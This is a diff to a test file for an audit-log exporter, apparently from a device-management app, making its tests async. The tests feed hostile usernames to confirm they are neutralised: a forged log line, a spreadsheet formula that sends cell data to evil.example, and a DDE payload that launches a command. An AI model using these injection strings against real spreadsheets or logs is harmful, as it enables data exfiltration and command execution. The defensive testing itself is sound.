@@ -2,14 +2,14 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { EMPTY_PROFILE, type StoredProfile } from '../store/profileRepository';
 import { AuditLog } from './auditLog';
 import { describeProfileChanges } from './profileChanges';
-import { openTestDatabase } from './testDatabase';
+import { openTestStore } from '../sim/testing/testStores';
 
-let store: ReturnType<typeof openTestDatabase>;
+let store: Awaited<ReturnType<typeof openTestStore>>;
 let clock: number;
 let audit: AuditLog;
 
-beforeEach(() => {
-  store = openTestDatabase();
+beforeEach(async () => {
+  store = await openTestStore();
   clock = Date.parse('2026-11-21T05:40:00.000Z');
   audit = new AuditLog(store.db, () => clock);
 });
@@ -18,26 +18,26 @@ afterEach(() => store.dispose());
 const before: StoredProfile = { ...EMPTY_PROFILE, mode: 'TFTP', tftp: { imageServer: '10.0.0.5', imagePath: '/images/ap', port: 69 } };
 
 describe('AuditLog', () => {
-  it('exports one line per entry: time user@address action detail', () => {
+  it('exports one line per entry: time user@address action detail', async () => {
     const after: StoredProfile = { ...before, mode: 'SFTP', sftp: { ...before.sftp, imageServer: '10.0.0.6', password: 'S3cret!pw' } };
-    audit.record({ username: 'admin', sourceAddress: '127.0.0.1', action: 'profile.save', detail: describeProfileChanges(before, after) });
+    await audit.record({ username: 'admin', sourceAddress: '127.0.0.1', action: 'profile.save', detail: describeProfileChanges(before, after) });
     clock += 60_000;
-    audit.record({ username: 'admin', sourceAddress: '::ffff:192.168.1.20', action: 'upgrade.download' });
-    expect(audit.exportText()).toBe(
+    await audit.record({ username: 'admin', sourceAddress: '::ffff:192.168.1.20', action: 'upgrade.download' });
+    expect(await audit.exportText()).toBe(
       '2026-11-21T05:40:00.000Z admin@127.0.0.1 profile.save mode TFTP -> SFTP, sftp.imageServer "" -> 10.0.0.6, password changed\n' + '2026-11-21T05:41:00.000Z admin@192.168.1.20 upgrade.download\n',
     );
-    expect(audit.exportText()).not.toContain('S3cret!pw');
+    expect(await audit.exportText()).not.toContain('S3cret!pw');
   });
 
-  it('keeps a forged newline in a user name from starting a new line', () => {
-    audit.record({ username: 'x\n2026-01-01T00:00:00.000Z admin@127.0.0.1 user.create', sourceAddress: '10.1.1.1', action: 'login.failed', detail: 'unknown user' });
-    expect(audit.exportText().split('\n').filter(Boolean)).toHaveLength(1);
+  it('keeps a forged newline in a user name from starting a new line', async () => {
+    await audit.record({ username: 'x\n2026-01-01T00:00:00.000Z admin@127.0.0.1 user.create', sourceAddress: '10.1.1.1', action: 'login.failed', detail: 'unknown user' });
+    expect((await audit.exportText()).split('\n').filter(Boolean)).toHaveLength(1);
   });
 
-  it('exports spreadsheet formulas and invisible line breaks from attempted user names as text', () => {
+  it('exports spreadsheet formulas and invisible line breaks from attempted user names as text', async () => {
     const attempts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', 'ad\u2028min', 'ad\u2029min', 'ad\u0085min', 'ad\u202Enimda', 'tab\tname'];
-    for (const username of attempts) audit.record({ username, sourceAddress: '127.0.0.1', action: 'login.failed', detail: 'unknown user' });
-    const lines = audit.exportText().split('\n').filter(Boolean);
+    for (const username of attempts) await audit.record({ username, sourceAddress: '127.0.0.1', action: 'login.failed', detail: 'unknown user' });
+    const lines = (await audit.exportText()).split('\n').filter(Boolean);
     expect(lines).toEqual([
       `2026-11-21T05:40:00.000Z '=HYPERLINK("http://evil.example/?"&A1,"Click")@127.0.0.1 login.failed unknown user`,
       `2026-11-21T05:40:00.000Z '+cmd|' /C calc'!A0@127.0.0.1 login.failed unknown user`,
@@ -50,16 +50,16 @@ describe('AuditLog', () => {
       '2026-11-21T05:40:00.000Z tab name@127.0.0.1 login.failed unknown user',
     ]);
     // What a terminal or an editor would take as a line break or a direction change is gone from the file.
-    expect(audit.exportText()).not.toMatch(/[\u2028\u2029\u0085\u202e\t\r]/);
+    expect(await audit.exportText()).not.toMatch(/[\u2028\u2029\u0085\u202e\t\r]/);
   });
 
-  it('returns the most recent entries oldest first', () => {
+  it('returns the most recent entries oldest first', async () => {
     for (const action of ['login', 'upgrade.download', 'upgrade.activate', 'logout'] as const) {
-      audit.record({ username: 'admin', sourceAddress: '127.0.0.1', action });
+      await audit.record({ username: 'admin', sourceAddress: '127.0.0.1', action });
       clock += 1000;
     }
-    expect(audit.recent(2).map((e) => e.action)).toEqual(['upgrade.activate', 'logout']);
-    expect(audit.recent()[0]).toMatchObject({ username: 'admin', sourceAddress: '127.0.0.1', action: 'login', detail: '', time: '2026-11-21T05:40:00.000Z' });
+    expect((await audit.recent(2)).map((e) => e.action)).toEqual(['upgrade.activate', 'logout']);
+    expect((await audit.recent())[0]).toMatchObject({ username: 'admin', sourceAddress: '127.0.0.1', action: 'login', detail: '', time: '2026-11-21T05:40:00.000Z' });
   });
 });
 
